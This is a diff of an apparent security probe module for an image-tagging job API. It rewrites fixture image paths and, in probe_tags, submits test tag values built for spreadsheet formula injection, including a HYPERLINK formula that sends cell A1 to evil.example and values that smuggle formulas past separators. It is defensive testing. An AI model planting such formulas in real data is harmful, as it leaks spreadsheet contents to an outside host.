@@ -205,10 +205,10 @@ def probe_readyz(target: Target) -> Iterator[Row]:
 
 
 def probe_retry(target: Target) -> Iterator[Row]:
-    cancelled = _create(target, ["/nowhere/a.jpg", "/nowhere/b.jpg"])
+    cancelled = _create(target, [f"{target.root}/nowhere/a.jpg", f"{target.root}/nowhere/b.jpg"])
     _answer(target, cancelled, [None, {"tags": ["x"]}], finish=False)
     httpx.post(f"{target.base}/v1/jobs/{cancelled}/cancel", headers=target.headers()).raise_for_status()
-    batch_job = _create(target, ["/nowhere/c.jpg"])
+    batch_job = _create(target, [f"{target.root}/nowhere/c.jpg"])
     _answer(target, batch_job, [None])
     _set_job(target, batch_job, pipeline="chat")  # what a batch's job is: a request pipeline's
     with _browser(target) as browser:
@@ -248,7 +248,7 @@ def probe_framing(target: Target) -> Row:
 
 
 def probe_tags(target: Target) -> Iterator[Row]:
-    job_id = _create(target, ["/nowhere/t.jpg"])
+    job_id = _create(target, [f"{target.root}/nowhere/t.jpg"])
     (item_id,) = _answer(target, job_id, [{"tags": ["sea", "@SUM(1)"]}])
     path = f"{target.base}/v1/jobs/{job_id}/items/{item_id}/tags"
     codes = []
@@ -262,7 +262,7 @@ def probe_tags(target: Target) -> Iterator[Row]:
         ok=codes[0].startswith("200") and all(c == "409 too_many_manual_tags" for c in codes[1:]),
     )
 
-    job_id = _create(target, ["/nowhere/u.jpg"])
+    job_id = _create(target, [f"{target.root}/nowhere/u.jpg"])
     (item_id,) = _answer(target, job_id, [{"tags": ["sea", "@SUM(1)"]}])
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "rock;roll", "a;=1+1"]
     path = f"{target.base}/v1/jobs/{job_id}/items/{item_id}/tags"
